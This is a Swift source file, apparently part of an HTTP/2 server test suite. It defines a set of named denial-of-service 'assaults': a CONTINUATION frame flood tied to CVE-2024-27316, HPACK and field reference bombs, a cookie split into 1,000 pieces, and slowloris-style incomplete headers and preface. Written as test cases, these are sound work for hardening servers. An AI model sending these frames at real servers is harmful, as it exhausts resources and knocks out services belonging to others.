extension Assault {
  package static let continuationFlood = Assault("continuation-flood", "CONTINUATION without end (CVE-2024-27316)") {
    client, _ in
    client.send(RawFrame.Kind.headers, stream: 1, HeaderBlock.literals([(":method", "POST")]))
    times(100) { client.send(RawFrame.Kind.continuation, stream: 1, HeaderBlock.literals([("x\($0)", "")])) }
  }

  package static let emptyContinuations = Assault("empty-continuations", "CONTINUATION frames of nothing") {
    client, call in
    client.send(RawFrame.Kind.headers, stream: 1, call.block())
    times(100) { _ in client.send(RawFrame.Kind.continuation, stream: 1) }
  }

  package static let hpackBomb = Assault("hpack-bomb", "one large field in the table and 12,000 references to it") {
    client, call in
    let large = HeaderBlock.indexedLiteral("x-large", String(repeating: "a", count: 4000))
    let references = [UInt8]((0..<12_000).flatMap { _ in HeaderBlock.reference(62) })
    client.headers(1, call.block() + large + references)
  }

  package static let fieldBomb = Assault("field-bomb", "12,000 of the smallest fields, each one byte on the wire") {
    client, call in
    // Index 20 of the static table is `access-control-allow-origin` without a value.
    client.headers(1, call.block() + [UInt8]((0..<12_000).flatMap { _ in HeaderBlock.reference(20) }))
  }

  package static let cookieCrumbs = Assault("cookie-crumbs", "a cookie in 1,000 crumbs") { client, call in
    _ = call.open(client, 1, (0..<1000).map { _ in ("cookie", "a") })
  }

  package static let slowHeaders = Assault("slow-headers", "a header block that does not end") { client, _ in
    client.send(RawFrame.Kind.headers, stream: 1, HeaderBlock.literals([(":method", "POST")]), length: 1000)
  }

  package static let slowPreface = Assault("slow-preface", "half of a preface, and no more", isBeforePreface: true) {
    client, _ in
    client.write(Array(RawClient.preface.prefix(10)))
  }
}
